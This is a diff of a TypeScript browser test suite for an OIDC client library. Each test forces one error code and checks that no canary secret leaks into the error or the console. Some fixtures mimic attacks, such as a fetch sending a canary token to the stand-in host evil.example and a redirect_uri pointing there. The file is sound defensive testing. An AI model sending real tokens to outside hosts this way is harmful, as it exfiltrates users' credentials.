@@ -1,9 +1,7 @@
+import type { BrowserErrorCode } from '@oidc/browser'
 import type { Page } from 'playwright-core'
 import { describe, expect, it } from 'vitest'
-import { errorCodes } from '../../packages/browser/src/error-codes.ts'
 import { lacksChromium, readyOf, type Stage, setStage } from './stage.ts'
-
-type Code = keyof typeof errorCodes
 
 /** What no error, and no line in the console, may show. */
 const canaries = ['canary-code', 'canary-state', 'canary-token', 'canary-claim']
@@ -22,60 +20,61 @@ const failureOf = (page: Page, run: string) =>
     )
   }, run)
 
-const raised: Readonly<Record<Code, (page: Page, stage: Stage) => Promise<{ code?: string; message?: string; all?: string }>>> = {
-  BROWSER_OPTION_INVALID: (page) => failureOf(page, `oidc.open({ redirect_uri: 'https://evil.example/cb?${query}' })`),
-  BROWSER_INSECURE_CONTEXT: (page) =>
-    failureOf(page, `Object.defineProperty(globalThis, 'isSecureContext', { value: false }); oidc.open({ scope: 'canary-claim' })`),
-  BROWSER_STORAGE_UNAVAILABLE: (page) =>
-    failureOf(
-      page,
-      `Storage.prototype.setItem = () => { throw new DOMException('canary-token', 'QuotaExceededError') }; await oidc.session.login()`,
-    ),
-  BROWSER_FRAMED: async (page, { origin }) => {
-    await page.setContent(`<iframe src="${origin}/cb?${query.replace('&', '&amp;')}"></iframe>`)
-    const ready = await page.waitForFunction(() => (window.frames[0] as Window | undefined)?.oidc?.ready)
-    return ready.evaluate((answer) => answer ?? {})
-  },
-  BROWSER_TRANSACTION_NOT_FOUND: async (page, { origin }) => {
-    await page.goto(`${origin}/cb?${query}`)
-    return readyOf(page)
-  },
-  BROWSER_TRANSACTION_USED: async (page, { origin, provider }) => {
-    await page.evaluate((name) => sessionStorage.setItem(name, '["canary-state"]'), `oidc:${new URL(provider.issuer).href}|spa:used`)
-    await page.goto(`${origin}/cb?${query}`)
-    return readyOf(page)
-  },
-  BROWSER_POPUP_BLOCKED: (page) =>
-    failureOf(page, `window.open = () => null; await oidc.session.loginPopup({ login_hint: 'canary-claim' })`),
-  BROWSER_POPUP_CLOSED: (page) =>
-    failureOf(
-      page,
-      `const foreign = { closed: false, close() {}, get location() { if (this.closed || this.isThere) throw new DOMException('x', 'SecurityError'); return { replace: () => { this.isThere = true; setTimeout(() => { this.closed = true }, 600) } } } }
+const raised: Readonly<Record<BrowserErrorCode, (page: Page, stage: Stage) => Promise<{ code?: string; message?: string; all?: string }>>> =
+  {
+    BROWSER_OPTION_INVALID: (page) => failureOf(page, `oidc.open({ redirect_uri: 'https://evil.example/cb?${query}' })`),
+    BROWSER_INSECURE_CONTEXT: (page) =>
+      failureOf(page, `Object.defineProperty(globalThis, 'isSecureContext', { value: false }); oidc.open({ scope: 'canary-claim' })`),
+    BROWSER_STORAGE_UNAVAILABLE: (page) =>
+      failureOf(
+        page,
+        `Storage.prototype.setItem = () => { throw new DOMException('canary-token', 'QuotaExceededError') }; await oidc.session.login()`,
+      ),
+    BROWSER_FRAMED: async (page, { origin }) => {
+      await page.setContent(`<iframe src="${origin}/cb?${query.replace('&', '&amp;')}"></iframe>`)
+      const ready = await page.waitForFunction(() => (window.frames[0] as Window | undefined)?.oidc?.ready)
+      return ready.evaluate((answer) => answer ?? {})
+    },
+    BROWSER_TRANSACTION_NOT_FOUND: async (page, { origin }) => {
+      await page.goto(`${origin}/cb?${query}`)
+      return readyOf(page)
+    },
+    BROWSER_TRANSACTION_USED: async (page, { origin, provider }) => {
+      await page.evaluate((name) => sessionStorage.setItem(name, '["canary-state"]'), `oidc:${new URL(provider.issuer).href}|spa:used`)
+      await page.goto(`${origin}/cb?${query}`)
+      return readyOf(page)
+    },
+    BROWSER_POPUP_BLOCKED: (page) =>
+      failureOf(page, `window.open = () => null; await oidc.session.loginPopup({ login_hint: 'canary-claim' })`),
+    BROWSER_POPUP_CLOSED: (page) =>
+      failureOf(
+        page,
+        `const foreign = { closed: false, close() {}, get location() { if (this.closed || this.isThere) throw new DOMException('x', 'SecurityError'); return { replace: () => { this.isThere = true; setTimeout(() => { this.closed = true }, 600) } } } }
        window.open = () => foreign; await oidc.session.loginPopup({ login_hint: 'canary-claim' })`,
-    ),
-  BROWSER_RESPONSE_TIMEOUT: (page) =>
-    failureOf(page, `await oidc.open({ popup: { timeout: 0.2 } }).loginPopup({ login_hint: 'canary-claim' })`),
-  BROWSER_SIGNED_OUT: (page) => failureOf(page, `await oidc.session.fetch('/api/me?secret=canary-claim')`),
-  BROWSER_SESSION_CHANGED: async (page, stage) => {
-    await stage.signIn(page)
-    return failureOf(
-      page,
-      `const answer = oidc.session.fetch('/api/me?secret=canary-claim', { headers: { 'x-secret': 'canary-token' } })
+      ),
+    BROWSER_RESPONSE_TIMEOUT: (page) =>
+      failureOf(page, `await oidc.open({ popup: { timeout: 0.2 } }).loginPopup({ login_hint: 'canary-claim' })`),
+    BROWSER_SIGNED_OUT: (page) => failureOf(page, `await oidc.session.fetch('/api/me?secret=canary-claim')`),
+    BROWSER_SESSION_CHANGED: async (page, stage) => {
+      await stage.signIn(page)
+      return failureOf(
+        page,
+        `const answer = oidc.session.fetch('/api/me?secret=canary-claim', { headers: { 'x-secret': 'canary-token' } })
        answer.catch(() => undefined)
        await oidc.session.logout({ local: true }); await answer`,
-    )
-  },
-  BROWSER_ORIGIN_REFUSED: (page) => failureOf(page, `await oidc.session.fetch('https://evil.example/canary-token?secret=canary-claim')`),
-  BROWSER_WORKER_FAILED: (page) =>
-    failureOf(
-      page,
-      `const fetch = oidc.fetchThroughWorker(new Worker('/api/none.js'), { endpoints: ['https://as.example/token'] })
+      )
+    },
+    BROWSER_ORIGIN_REFUSED: (page) => failureOf(page, `await oidc.session.fetch('https://evil.example/canary-token?secret=canary-claim')`),
+    BROWSER_WORKER_FAILED: (page) =>
+      failureOf(
+        page,
+        `const fetch = oidc.fetchThroughWorker(new Worker('/api/none.js'), { endpoints: ['https://as.example/token'] })
        await fetch('https://as.example/token', { method: 'POST', body: 'refresh_token=canary-token' })`,
-    ),
-}
+      ),
+  }
 
 describe.skipIf(lacksChromium)('errors [needs chromium]', () => {
-  it.each(Object.keys(errorCodes) as Code[])(
+  it.each(Object.keys(raised) as BrowserErrorCode[])(
     '%s is raised, its message ends with a remedy, and neither it nor the console shows a secret',
     async (code) => {
       const stage = await setStage()
